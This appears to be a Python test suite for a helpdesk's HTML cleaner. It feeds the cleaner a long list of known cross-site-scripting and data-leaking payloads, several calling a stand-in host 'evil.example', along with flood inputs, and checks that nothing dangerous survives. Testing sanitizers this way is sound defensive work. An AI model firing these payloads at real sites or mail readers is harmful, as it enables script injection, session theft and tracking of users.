"""The HTML cleaner against what has been used on mail readers, and against floods."""

import html.parser
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk.lib.html import clean, clean_counted, clean_document, clean_fragment, from_text, to_text

OWN = {"Bild1@kunde": "/attachments/7/"}

# Each is armed: served raw, it would run, ask a server for something, or act on the page around it.
VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#10;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u202ejavascript:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='https://x.example' ping='https://evil.example'>x</a>",
    "<a href='https://x.example' target=_top rel=opener download>x</a>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/a 2x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='/attachments/../logout'>",
    "<img src='/tickets/1/escalation/'>",
    "<img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video src=//evil.example poster=//evil.example autoplay></video>",
    "<audio src=//evil.example onplay=alert(1) autoplay></audio>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<iframe src='https://good.example@evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    "<button form=reply formaction=//evil.example>x</button>",
    "<input type=image src=//evil.example onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background-color:u\\72l(//evil.example/x)'>x</p>",
    "<p style='color:var(--secret)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='margin-top:-500px'>x</p>",
    "<p style='width:100vw;height:100vh'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#a)'>x</p>",
    "<p style='font-family:\"x\";background:url(//evil.example)'>x</p>",
    "<p style='list-style-image:url(//evil.example)'>x</p>",
    "<p style='background-color:image-set(\"//evil.example\" 1x)'>x</p>",
    '<p style="color:red&quot;onclick=alert(1)">x</p>',
    "<table background=//evil.example><tr><td background=//evil.example>x</td></tr></table>",
    "<div class=modal id=csrf name=cookie>x</div>",
    "<div data-action='steal' data-hx-get='/logout' data-bs-toggle=modal>x</div>",
    "<div hx-get='//evil.example' hx-trigger=load>x</div>",
    "<div hx-on::load='alert(1)'>x</div>",
    "<div data-hx-post='/tickets/1/escalation/' data-hx-trigger='revealed'>x</div>",
    "<div hx-vals='js:{a:alert(1)}' hx-swap-oob='true'>x</div>",
    "<a id=body><a id=body name=attributes href=https://x.example>x</a>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p contenteditable tabindex=1 onfocus=alert(1) autofocus accesskey=x>x</p>",
    "<p is=custom-element slot=x part=y popover>x</p>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example></portal><frameset><frame src=//evil.example></frameset>",
    "<font color='red\" onmouseover=\"alert(1)' face='x;y:url(z)'>x</font>",
    "<td><img src='cid:other@x'></td>",
    "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
]

ALLOWED = re.compile(
    r"dir|lang|style|title|href|src|alt|width|height|align|bgcolor|border|cell\w+|valign|colspan|rowspan|scope|span|start|type|value|size|color|face|rel|target"
)
FORBIDDEN_TAGS = set(
    "script style svg math iframe object embed form input button textarea select template noscript base meta link title video audio "
    "picture source map area frame frameset portal dialog marquee xmp plaintext isindex".split()
)


class Armed(html.parser.HTMLParser):
    """Collects everything in a piece of HTML that could act."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            value = value or ""
            if not ALLOWED.fullmatch(name):
                self.found.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?://[^/?#@\\]+([/?#].*)?$|mailto:|tel:)", value):
                self.found.append(f"href {value}")
            if name == "src" and not re.fullmatch(r"/attachments/[^.]*", value):
                self.found.append(f"src {value}")
            if name == "style" and re.search(
                r"url|var|\\|position|expression|binding|behavio|v[wh]|-\d|image-set|@", value
            ):
                self.found.append(f"style {value}")
            if name in ("target", "rel") and value not in ("_blank", "noopener noreferrer nofollow"):
                self.found.append(f"{name} {value}")

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("instruction")


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_armed_passes(vector):
    assert Armed(clean(vector, OWN)).found == []


@pytest.mark.parametrize(
    "wrap",
    [
        "<table><tr><td>{}</td></tr></table>",
        "<p title='{}'>x</p>",
        "<!-- {}",
        '<a href="{}',
        "<div><b>{}",
        "&lt;{}&gt;",
    ],
)
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_armed_passes_inside_other_elements(wrap, vector):
    assert Armed(clean(wrap.format(vector), OWN)).found == []


@pytest.mark.parametrize("vector", VECTORS)
def test_cleaning_twice_changes_nothing(vector):
    once = clean(vector, OWN)

    assert sorted(clean(once)) == sorted(once)  # the order of attributes may change


@pytest.mark.parametrize("vector", VECTORS)
def test_our_own_editor_is_not_trusted_either(vector):
    assert Armed(clean_fragment(vector)).found == []


@pytest.mark.parametrize("vector", VECTORS)
def test_text_is_shown_as_text(vector):
    assert Armed(from_text(vector)).found == []
    assert "<script" not in from_text(vector)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*VECTORS, "<", ">", '"', "'", "<!--", "-->", "</", "<table>", "</p>", "<style>", "<math>", "\x00", "&lt;"]
        ),
        max_size=6,
    )
)
def test_no_mixture_of_vectors_passes(pieces):
    assert Armed(clean("".join(pieces), OWN)).found == []


def test_formatting_survives():
    source = '<p style="color:red">Rot <b>fett</b></p><ul><li>eins</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>'

    cleaned = clean(source)

    assert cleaned == source.replace("<tr>", "<tbody><tr>").replace("</tr>", "</tr></tbody>")


def test_links_open_apart_and_tell_nothing():
    assert clean('<a href="https://x.example/?a=1&amp;b=2">x</a>') == (
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


@pytest.mark.parametrize("url", ["mailto:info@x.example", "tel:+49301234", "HTTP://x.example"])
def test_mail_phone_and_web_links_stay(url):
    assert f'href="{url}"' in clean(f"<a href='{url}'>x</a>")


def test_a_picture_of_the_mail_is_shown_from_our_own_address():
    assert clean('<img src="cid:Bild1@kunde" alt="Bild">', OWN) == '<img src="/attachments/7/" alt="Bild">'


def test_a_mapping_that_points_elsewhere_is_not_followed():
    assert clean('<img src="cid:a">', {"a": "https://evil.example/x"}) == "<img>"


def test_remote_pictures_are_removed_and_counted():
    cleaned = clean_counted(
        '<img src="https://a.example/1.gif"><img src="cid:Bild1@kunde"><img src="//b.example/2">', OWN
    )

    assert (cleaned.blocked_pictures, cleaned.note) == (2, "")
    assert "example" not in cleaned.html


@pytest.mark.parametrize(
    ("source", "note"),
    [
        ("<p>x</p>" + " " * 1_000_000, "too_large"),
        ("x" + "&" * 30_000, "too_large"),
        ("<div>" * 501 + "x", "too_deep"),
        ("<div><p></x>" * 600 + "x", "too_deep"),
        ("<i><div></i>" * 600 + "x", "too_deep"),
        ("<!-- </div> --><div>" * 600 + "x", "too_deep"),
        ('<div title="</div>">' * 600 + "x", "too_deep"),
        ("<div title='></div>'>" * 600 + "x", "too_deep"),
        ("<b></b>" * 16_000 + "x", "too_deep"),
    ],
)
def test_html_too_costly_to_clean_is_shown_as_its_text(source, note):
    cleaned = clean_counted(source)

    assert cleaned.note == note
    assert "x" in cleaned.html
    assert "<div" not in cleaned.html


@pytest.mark.parametrize(
    "source", ["<p>x" * 5_000, "<table>" + "<tr><td>x" * 5_000, "<ul>" + "<li>x" * 5_000, "<br>" * 20_000]
)
def test_long_ordinary_html_is_not_taken_for_deep(source):
    assert clean_counted(source).note == ""


def test_a_document_forbids_everything_but_our_pictures_and_styles():
    document = clean_document("<p>Hallo<script>x</script>")

    assert (
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src 'self' data:; "
        "style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'\">"
    ) in document
    assert document.endswith("<body><p>Hallo</p></body></html>")
    assert document.index("Content-Security-Policy") < document.index("<body>")


def test_a_document_is_a_plain_string_so_that_templates_escape_it():
    assert not hasattr(clean_document("<p>x"), "__html__")


def test_a_document_follows_the_theme_unless_the_mail_brings_colours():
    plain, coloured = (clean_document(source, theme="dark") for source in ("<p>x", '<p style="color:#000">x'))

    assert "color-scheme:dark" in plain
    assert "color-scheme:light" in coloured


def test_text_becomes_paragraphs_with_links():
    assert from_text("Hallo <b>,\nsiehe https://x.example/a?b=1&c=2.\n\nFrage: hilfe@x.example") == (
        '<p>Hallo &lt;b&gt;,<br>siehe <a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">'
        "https://x.example/a?b=1&amp;c=2</a>.</p>"
        '<p>Frage: <a href="mailto:hilfe@x.example" target="_blank" rel="noopener noreferrer nofollow">hilfe@x.example</a></p>'
    )


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>Eins</p><p>Zwei</p>", "Eins\n\nZwei"),
        ("Eins<br>Zwei", "Eins\nZwei"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<ol><li>a<ol><li>x</ol><li>b</ol>", "1. a\n  1. x\n2. b"),
        ("<table><tr><td>a<td>b</table>", "a\tb"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ('<blockquote type="cite">alt<br>er</blockquote>neu', "> alt\n> er\n\nneu"),
        ("<blockquote>nur eingerückt</blockquote>", "nur eingerückt"),
        ('<a href="https://x.example/y">hier</a>', "hier <https://x.example/y>"),
        ('<a href="https://x.example">x.example</a>', "x.example"),
        ('<a href="javascript:x">hier</a>', "hier"),
        ("<style>p{}</style><script>x</script><title>t</title>a &lt; b&nbsp;&amp; c", "a < b & c"),
        ('<img alt="Logo" src="x">', "[Logo]"),
        ("a < b und c > d", "a < b und c > d"),
        ("<!-- weg --><p>da<!-- nie zu", "da"),
    ],
)
def test_html_reads_as_text(source, text):
    assert to_text(source) == text


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_survives_as_text(text):
    assert Armed(from_text(text)).found == []
    to_text(text)
    assert Armed(clean(text)).found == []
